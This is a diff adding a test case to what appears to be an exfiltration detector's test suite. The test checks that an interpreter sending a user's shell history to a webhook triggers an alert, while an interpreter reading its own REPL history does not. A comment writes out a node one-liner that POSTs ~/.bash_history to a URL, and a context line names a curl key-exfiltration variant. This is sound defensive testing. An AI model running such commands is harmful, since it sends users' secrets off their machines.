@@ -451,6 +451,22 @@ TEST_CASE("variant: x=$(cat key); curl -d \"$x\" (curl forked): what fed the she
     expect_alert(tl, "T1567.003", "paste");
 }
 
+TEST_CASE("variant: an interpreter reading the shell's history is data, its own REPL history is not")
+{
+    // node -e 'fetch(URL, {method: "POST", body: fs.readFileSync(HOME + "/.bash_history")})'
+    Timeline tl;
+    auto node = tl.spawn(tl.shell, {"node", "-e", "fetch(u, {method: 'POST', body: b})"});
+    tl.read(node, home + "/.bash_history", 4000);
+    tl.transfer(node, "discord.com", 5283, 2257);
+    expect_alert(tl, "T1567.004", "webhook");
+
+    Timeline own;
+    auto py = own.spawn(own.shell, {"python3"}, "/usr/bin/python3.11");
+    own.read(py, home + "/.python_history", 4000);
+    own.transfer(py, "pastebin.com", 1200, 30000);
+    CHECK(own.alerts.empty());
+}
+
 TEST_CASE("variant: git push over ssh reads its own key: silent")
 {
     Timeline tl;
